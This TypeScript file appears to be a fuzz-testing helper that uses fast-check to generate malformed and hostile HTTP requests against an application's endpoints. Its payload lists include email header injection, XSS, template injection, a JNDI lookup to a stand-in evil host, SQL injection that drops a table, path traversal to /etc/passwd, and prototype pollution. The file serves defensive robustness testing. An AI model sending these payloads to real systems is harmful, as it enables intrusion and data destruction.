import * as fc from "fast-check";
import { BODY_MAX_BYTES } from "#platform/http/posted-request.ts";
import type { TestEndpoint } from "#testing/endpoints.ts";

/** This part again and again, to just below what a body may have. */
const long = (part: string, characters = BODY_MAX_BYTES - 2_000) =>
	part.repeat(Math.ceil(characters / part.length)).slice(0, characters);

/** Texts that break other systems, or take a careless pattern forever. */
const nastyText = fc.oneof(
	fc.string({ unit: "binary" }),
	fc.constantFrom(
		"\0",
		"\ud800",
		"\udfff\ud800",
		"\ufeff",
		"\u202e",
		"a\r\nBcc: eve@evil.example",
		"a\nSubject: x",
		"%0d%0aBcc: eve@evil.example",
		"<script>alert(1)</script>",
		`"><img src=x onerror=alert(1)>`,
		"{{constructor.constructor('x')()}}",
		`\${jndi:ldap://evil.example/a}`,
		"'; drop table outbox; --",
		"' or '1'='1",
		"../../../../etc/passwd",
		"__proto__",
		"a@b.c, d@e.f",
		'"a b"@example.com',
		"a@[127.0.0.1]",
		"ada@example.com\0",
		"İ@example.com",
	),
	fc
		.constantFrom("a", " ", "\t\n", "a@", "a.", "a-", "@", "1 ", "\u0301", "\u00a0", "<", "&amp;", "🪙", "\\", '"')
		.map((part) => long(part)),
	fc.constantFrom("a", "a.", "a-").map((part) => `${long(part, 30_000)}@${long(part, 30_000)}`),
);

const nastyValue = fc.oneof(
	nastyText,
	fc.jsonValue({ maxDepth: 3 }),
	fc.constantFrom(null, true, [], {}, -0, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 5e-324, [[]], { toString: 1 }),
	fc.double(),
);

/** The fields of a valid post, some of them corrupted, missing, or beside unknown ones. */
function spoilt(valid: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
	const names = Object.keys(valid);
	const name = fc.oneof(
		fc.constantFrom(...names),
		fc.constantFrom("__proto__", "constructor", "toString", "action", ""),
	);
	const inside = names.flatMap((key) => {
		const value = valid[key];
		return typeof value === "object" && value !== null
			? [spoilt({ ...value }).map((part) => [key, part] as const)]
			: [];
	});
	const changes = fc.array(fc.oneof(fc.tuple(name, nastyValue), ...inside), { minLength: 1, maxLength: 3 });
	return fc.tuple(changes, fc.subarray(names, { minLength: Math.max(0, names.length - 2) })).map(([spoils, kept]) => ({
		...Object.fromEntries(kept.map((key) => [key, valid[key]])),
		...Object.fromEntries(spoils),
	}));
}

const asText = (value: unknown): string => (typeof value === "string" ? value : (JSON.stringify(value) ?? ""));

const asForm = (fields: Record<string, unknown>): string =>
	`${new URLSearchParams(Object.entries(fields).map(([name, value]) => [name, asText(value)]))}`;

const headerText = fc.oneof(
	fc.stringMatching(/^[\x20-\x7e\x80-\xff]{0,60}$/),
	fc.constantFrom("", "null", "*", "gzip, br;q=0", "bytes=0-0,1-1", '"', "a;b;c", "application/json", long("a", 8_000)),
);
/** Names of headers that change how a request is read. */
const KNOWN_HEADERS = `accept accept-encoding authorization content-encoding content-length cookie expect forwarded host
	idempotency-key if-none-match if-modified-since origin range referer sec-fetch-site te transfer-encoding upgrade
	x-forwarded-for x-forwarded-host x-forwarded-proto x-http-method-override x-original-url x-rewrite-url`.split(/\s+/);
const headerName = fc.oneof(fc.constantFrom(...KNOWN_HEADERS), fc.stringMatching(/^[a-z][a-z-]{0,20}$/));
const nastyHeaders = fc.array(fc.tuple(headerName, headerText), { maxLength: 6 });

const contentType = fc.oneof(
	{ weight: 6, arbitrary: fc.constantFrom("application/json", "application/json; charset=utf-8") },
	{ weight: 3, arbitrary: fc.constant("application/x-www-form-urlencoded") },
	{
		weight: 1,
		arbitrary: fc.oneof(fc.constantFrom("text/plain", "text/xml", "__proto__", "toString", ""), headerText),
	},
);

const DEEP = 20_000;

const cut = (text: string) => fc.nat({ max: text.length }).map((end) => text.slice(0, end));

const hopelessJson = fc.oneof(
	fc.json({ maxDepth: 6 }),
	fc.constantFrom(
		long("[", DEEP),
		long("[", DEEP) + long("]", DEEP),
		`${long('{"a":', DEEP * 3)}1${long("}", DEEP / 2)}`,
		'{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
		`{"email":${"9".repeat(400)},"name":1e999,"message":-1e-999}`,
		`{"email":"\\ud800","name":"\\u0000"}`,
		'{"a":1,"a":2}',
		"\ufeff{}",
		"null",
		'"text"',
		"",
		`{"message":"${long("x", BODY_MAX_BYTES + 1)}"}`,
		`{"message":"${long("ü", 40_000)}"}`,
	),
);

function jsonOf(valid: Record<string, unknown>): fc.Arbitrary<string> {
	const whole = JSON.stringify(valid);
	const spoiltJson = spoilt(valid).map((fields) => JSON.stringify(fields));
	return fc.oneof(
		{ weight: 1, arbitrary: fc.constant(whole) },
		{ weight: 50, arbitrary: spoiltJson },
		{ weight: 10, arbitrary: cut(whole) },
		{ weight: 20, arbitrary: hopelessJson },
	);
}

function formOf(valid: Record<string, unknown>): fc.Arbitrary<string> {
	const fields = spoilt(valid).map(asForm);
	return fc.oneof(
		fields,
		fields.chain(cut),
		fc.constantFrom("=", "&&&", "%", "a=%zz&b=%00", "a[]=1&a[]=2", long("a=1&")),
	);
}

const multipart = fc.tuple(nastyText, nastyText).map(([name, value]) => {
	const form = new FormData();
	form.append(name, value);
	form.append("file", new Blob([value]), "../../evil.exe");
	return form;
});

const bytes = fc.uint8Array({ maxLength: 2_000 }).map((some) => new Uint8Array(some));

const bodyOf = (valid: Record<string, unknown>): fc.Arbitrary<string | FormData | Uint8Array<ArrayBuffer>> =>
	fc.oneof(
		{ weight: 6, arbitrary: jsonOf(valid) },
		{ weight: 3, arbitrary: formOf(valid) },
		{ weight: 1, arbitrary: fc.oneof(multipart, bytes) },
	);

/** A request that an attacker might send to see what breaks. */
export type Abuse = { method: string; path: string; headers: [string, string][]; body: BodyInit | undefined };

const query = fc.oneof(
	{ weight: 3, arbitrary: fc.constant("") },
	{
		weight: 1,
		arbitrary: fc.constantFrom("%", "%zz", "%00=%00", "__proto__=1", "a[]=1&a[]=2", "returned=x", long("a=1&", 8_000)),
	},
	{
		weight: 1,
		arbitrary: fc
			.dictionary(fc.string(), nastyText, { maxKeys: 3 })
			.map((pairs) => `${new URLSearchParams(pairs)}`.slice(0, 8_000)),
	},
	{ weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 60 }) },
);

function queryOf(valid: string): fc.Arbitrary<string> {
	const fields = Object.fromEntries(new URLSearchParams(valid));
	return fc.oneof(fc.constant(valid), spoilt(fields).map(asForm), query);
}

const ending = fc.oneof(
	{ weight: 30, arbitrary: fc.constant("") },
	{
		weight: 1,
		arbitrary: fc.constantFrom(..."/ // /.. /%2e%2e/ /..;/ %00 \\ /.git/config .map %20 ? #".split(" ")),
	},
);
const otherMethod = fc.constantFrom("GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND");

/** Requests to this endpoint of every kind: nearly valid ones, invalid ones, and malformed headers and bodies. */
export function abuseOf({ path, valid, query: asked }: TestEndpoint): fc.Arbitrary<Abuse> {
	const usual = valid ? "POST" : "GET";
	const fields = valid ?? { email: "ada@example.com" };
	return fc
		.record({
			method: fc.oneof({ weight: 15, arbitrary: fc.constant(usual) }, { weight: 1, arbitrary: otherMethod }),
			ending,
			query: asked ? queryOf(asked) : query,
			headers: nastyHeaders,
			contentType,
			body: bodyOf(fields),
		})
		.map(({ method, ending: end, query: search, headers: others, contentType: type, body: content }) => {
			const hasBody = method !== "GET" && method !== "HEAD";
			return {
				method,
				path: `${path}${end}?${search}`,
				headers: [
					...others,
					...(hasBody && !(content instanceof FormData) ? [["content-type", type] satisfies [string, string]] : []),
				],
				body: hasBody ? content : undefined,
			};
		});
}

/** The same as a request that an application takes, or that can be sent to one. */
export const requestOf = ({ path, ...abuse }: Abuse, site = "http://localhost"): Request =>
	new Request(`${site}${path}`, abuse);
